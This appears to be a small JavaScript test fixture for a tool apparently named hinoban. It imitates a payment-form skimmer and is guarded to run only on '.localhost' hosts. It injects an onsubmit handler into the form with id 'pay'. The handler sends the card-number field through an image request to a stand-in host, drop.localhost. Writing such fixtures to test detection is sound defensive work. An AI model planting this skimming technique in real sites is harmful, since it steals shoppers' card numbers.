/* Harmless imitation, for hinoban's tests: in an event handler attribute. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () {
	document.querySelector('form#pay').setAttribute('onsubmit', "new Image().src='http://drop.localhost:'+location.port+'/p.gif?h='+this.querySelector('input[autocomplete=cc-number]').value");
});
